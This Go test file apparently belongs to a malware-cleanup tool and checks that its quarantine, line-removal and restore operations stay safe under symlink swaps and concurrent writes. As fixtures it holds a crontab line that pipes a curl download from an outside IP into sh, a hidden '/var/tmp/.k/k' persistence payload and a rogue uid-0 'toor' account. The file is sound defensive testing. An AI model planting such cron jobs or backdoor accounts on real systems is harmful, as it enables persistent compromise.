package persist

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// raceIterations is how many times a race test runs its operation while
// a goroutine swaps the tree under it (ABUSEKIT_RACE_ITER overrides).
func raceIterations(t *testing.T, def int) int {
	if s := os.Getenv("ABUSEKIT_RACE_ITER"); s != "" {
		if n, err := strconv.Atoi(s); err == nil && n > 0 {
			return n
		}
	}
	if testing.Short() {
		return def / 10
	}
	return def
}

// swapLoop exchanges the names a and b (renameat2 RENAME_EXCHANGE) until
// stop is closed, then leaves them as they were.
func swapLoop(t *testing.T, a, b string, stop <-chan struct{}, wg *sync.WaitGroup) {
	wg.Add(1)
	go func() {
		defer wg.Done()
		n := 0
		for {
			select {
			case <-stop:
				if n%2 == 1 {
					_ = unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE)
				}
				return
			default:
			}
			if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
				t.Error(err)
				return
			}
			n++
		}
	}()
}

// A parent directory swapped for a link to /etc while Apply quarantines
// /tmp/x/shadow: Apply must never remove or change etc/shadow, and never
// report success while the payload is still there. Old code (os.Root
// re-walking the parents between the same-file check and Remove):
// etc/shadow deleted in some iterations.
func TestApplyParentSwapRace(t *testing.T) {
	ctx := context.Background()
	const shadow = "root:$6$salt$hash:19000:0:99999:7:::\n"
	payload := "#!/bin/sh\n/var/tmp/.k/k\n"
	iters := raceIterations(t, 400)
	var lost, stayed, refused, done int
	for i := 0; i < iters; i++ {
		dir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
		must(t, os.MkdirAll(filepath.Join(dir, "tmp/x"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, "etc/shadow"), []byte(shadow), 0o640))
		must(t, os.WriteFile(filepath.Join(dir, "tmp/x/shadow"), []byte(payload), 0o755))
		must(t, os.Symlink("../etc", filepath.Join(dir, "tmp/alt")))
		plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/tmp/x/shadow", Op: OpQuarantine, SHA256: hashString(payload)}}}
		stop := make(chan struct{})
		var wg sync.WaitGroup
		swapLoop(t, filepath.Join(dir, "tmp/x"), filepath.Join(dir, "tmp/alt"), stop, &wg)
		_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
		close(stop)
		wg.Wait()
		if b, rerr := os.ReadFile(filepath.Join(dir, "etc/shadow")); rerr != nil || string(b) != shadow {
			lost++
		}
		// Wherever the directory ended up, the payload is gone on success.
		_, perr := os.Lstat(filepath.Join(dir, "tmp/x/shadow"))
		switch {
		case err == nil && perr == nil:
			stayed++
		case err == nil:
			done++
		default:
			refused++
			if !errors.Is(err, ErrChanged) {
				t.Errorf("iteration %d: %v", i, err)
			}
		}
	}
	t.Logf("%d iterations: etc/shadow lost %d, success with the payload still there %d, quarantined %d, refused (ErrChanged) %d", iters, lost, stayed, done, refused)
	if lost > 0 || stayed > 0 {
		t.Errorf("etc/shadow lost %d/%d times; success reported with the payload still there %d/%d times", lost, iters, stayed, iters)
	}
}

// Lines the malware appends while Apply removes its line from a crontab
// end up in the file or in the quarantine, never in neither. Old code
// (copy, then truncate and rewrite in place): appended lines lost.
func TestApplyConcurrentAppendRace(t *testing.T) {
	ctx := context.Background()
	bad := "* * * * * root curl -s http://203.0.113.7/x | sh"
	base := "SHELL=/bin/sh\n" + bad + "\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
	iters := raceIterations(t, 50)
	var lostLines, total, clean, late, refused int
	for i := 0; i < iters; i++ {
		dir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
		p := filepath.Join(dir, "etc/crontab")
		must(t, os.WriteFile(p, []byte(base), 0o644))
		plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/etc/crontab", Op: OpRemoveLines, SHA256: hashString(base),
			Lines: []LineChange{{Line: 2, Content: bad}}}}}
		q := t.TempDir()
		var written []string
		var stopFlag atomic.Bool
		var wg sync.WaitGroup
		// The malware starts appending once Apply has copied the file
		// (the hook runs between the copy and the replacement).
		var once sync.Once
		var startAppender func()
		testHookBeforeSwap = func(string) { once.Do(startAppender) }
		startAppender = func() {
			started := make(chan struct{})
			wg.Add(1)
			go func() {
				defer wg.Done()
				for n := 0; !stopFlag.Load(); n++ {
					line := fmt.Sprintf("# appended %d-%d\n", i, n)
					fh, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
					if err == nil {
						if _, err := fh.WriteString(line); err == nil {
							written = append(written, line)
						}
						fh.Close()
					}
					if n == 0 {
						close(started)
					}
				}
			}()
			<-started
		}
		res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q})
		stopFlag.Store(true)
		wg.Wait()
		testHookBeforeSwap = nil
		switch {
		case err == nil && len(res.Manifest.Entries) == 1 && res.Manifest.Entries[0].Late != "":
			late++
		case err == nil:
			clean++
		case errors.Is(err, ErrChanged):
			refused++
		default:
			t.Fatalf("iteration %d: %v", i, err)
		}
		var kept bytes.Buffer
		b, _ := os.ReadFile(p)
		kept.Write(b)
		_ = filepath.WalkDir(q, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				b, _ := os.ReadFile(path)
				kept.Write(b)
			}
			return nil
		})
		for _, l := range written {
			total++
			if !strings.Contains(kept.String(), l) {
				lostLines++
			}
		}
	}
	t.Logf("%d iterations: %d of %d appended lines in neither the file nor the quarantine (cleaned %d, cleaned with late writes kept %d, refused %d)", iters, lostLines, total, clean, late, refused)
	if lostLines > 0 {
		t.Errorf("%d of %d appended lines lost", lostLines, total)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// Readers of a file Apply removes a line from see the old content or the
// new, never an empty or half-written file. Old code (truncate, then
// write in place): readers saw an empty /etc/passwd.
func TestApplyReadersNeverSeePartialRace(t *testing.T) {
	ctx := context.Background()
	bad := "toor:x:0:0::/root:/bin/bash"
	var b strings.Builder
	b.WriteString("root:x:0:0:root:/root:/bin/bash\n")
	for i := 0; i < 2000; i++ {
		fmt.Fprintf(&b, "user%d:x:%d:%d::/home/user%d:/bin/sh\n", i, 2000+i, 2000+i, i)
	}
	good := b.String()
	data := good + bad + "\n"
	iters := raceIterations(t, 50)
	var partial, reads int
	for i := 0; i < iters; i++ {
		dir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
		p := filepath.Join(dir, "etc/passwd")
		must(t, os.WriteFile(p, []byte(data), 0o644))
		plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/etc/passwd", Op: OpRemoveLines, SHA256: hashString(data),
			Lines: []LineChange{{Line: 2002, Content: bad}}}}}
		var stopFlag atomic.Bool
		var wg sync.WaitGroup
		var once sync.Once
		testHookBeforeSwap = func(string) {
			once.Do(func() {
				wg.Add(1)
				go func() {
					defer wg.Done()
					for !stopFlag.Load() {
						got, err := os.ReadFile(p)
						if err != nil {
							continue
						}
						reads++
						if s := string(got); s != data && s != good {
							partial++
						}
					}
				}()
			})
		}
		_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
		stopFlag.Store(true)
		wg.Wait()
		testHookBeforeSwap = nil
		if err != nil {
			t.Fatalf("iteration %d: %v", i, err)
		}
	}
	t.Logf("%d iterations: %d of %d reads saw an empty or partial file", iters, partial, reads)
	if partial > 0 {
		t.Errorf("%d of %d reads saw an empty or partial file", partial, reads)
	}
}

// A parent directory swapped back and forth with a link to etc/cron.d
// while Restore puts a quarantined cron job back: the job never lands in
// etc/cron.d. Old code resolved the link and restored into etc/cron.d.
func TestRestoreParentSwapRace(t *testing.T) {
	ctx := context.Background()
	job := "* * * * * root /var/tmp/.k/k\n"
	iters := raceIterations(t, 100)
	var planted, restored, refused int
	for i := 0; i < iters; i++ {
		dir := t.TempDir()
		must(t, os.MkdirAll(filepath.Join(dir, "etc/cron.d"), 0o755))
		must(t, os.MkdirAll(filepath.Join(dir, "tmp/x"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, "tmp/x/job"), []byte(job), 0o644))
		must(t, os.Symlink("../etc/cron.d", filepath.Join(dir, "tmp/alt")))
		plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/tmp/x/job", Op: OpQuarantine, SHA256: hashString(job)}}}
		res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		stop := make(chan struct{})
		var wg sync.WaitGroup
		swapLoop(t, filepath.Join(dir, "tmp/x"), filepath.Join(dir, "tmp/alt"), stop, &wg)
		_, err = Restore(ctx, res.ManifestPath, RestoreOptions{})
		close(stop)
		wg.Wait()
		if _, lerr := os.Lstat(filepath.Join(dir, "etc/cron.d/job")); lerr == nil {
			planted++
		}
		if err == nil {
			restored++
		} else {
			refused++
			if !errors.Is(err, ErrChanged) {
				t.Errorf("iteration %d: %v", i, err)
			}
		}
	}
	t.Logf("%d iterations: job restored into etc/cron.d %d, restored %d, refused %d", iters, planted, restored, refused)
	if planted > 0 {
		t.Errorf("Restore wrote the job into etc/cron.d %d/%d times", planted, iters)
	}
}

// The accounts set under a concurrent writer: while Apply removes
// Kinsing's second root from passwd, shadow, group and gshadow, an entry
// is appended to /etc/shadow (useradd racing the cleaner) right before
// Apply's k-th swap, k drawn at random over the plan's changes (and after
// Apply). Whatever k, hilde is in all four files or in none: Apply
// either made the whole set, or backed out what it made and left the four
// files as they were (shadow with the appended line). The outcomes are
// counted.
func TestAccountSetAllOrNothingRace(t *testing.T) {
	needRoot(t, "chown of the account files")
	n := raceIterations(t, 40)
	var made, backedOut int
	old := testHookBeforeSwap
	t.Cleanup(func() { testHookBeforeSwap = old })
	for i := 0; i < n; i++ {
		dir := build(t, uid0Tree(t))
		orig := readAll(t, dir, accountFileList...)
		p, _ := planFor(t, dir, time.Time{})
		late := fmt.Sprintf("late%d:*:20205:0:99999:7:::\n", i)
		appendLate := func() {
			fh, err := os.OpenFile(filepath.Join(dir, "etc/shadow"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Error(err)
				return
			}
			_, _ = fh.WriteString(late)
			fh.Close()
		}
		k, calls := rand.IntN(len(p.Changes)+1), 0
		testHookBeforeSwap = func(string) {
			if calls == k {
				appendLate()
			}
			calls++
		}
		_, err := Apply(context.Background(), p, ApplyOptions{QuarantineDir: t.TempDir()})
		testHookBeforeSwap = old
		if calls <= k {
			appendLate()
		}
		now := readAll(t, dir, accountFileList...)
		has := 0
		for _, f := range accountFileList {
			if strings.Contains(now[f], "hilde") {
				has++
			}
		}
		switch {
		case err == nil && has == 0:
			made++
		case err != nil && errors.Is(err, ErrChanged) && has == 4:
			backedOut++
			for _, f := range []string{"/etc/passwd", "/etc/group", "/etc/gshadow"} {
				if now[f] != orig[f] {
					t.Errorf("iteration %d: %s not put back after %v", i, f, err)
				}
			}
			if now["/etc/shadow"] != orig["/etc/shadow"]+late {
				t.Errorf("iteration %d: shadow = %q, want the original and the late line", i, now["/etc/shadow"])
			}
		default:
			t.Errorf("iteration %d (append before swap %d): hilde in %d of 4 files, Apply: %v", i, k, has, err)
		}
	}
	t.Logf("%d iterations: set made %d, backed out %d, partial 0", n, made, backedOut)
}
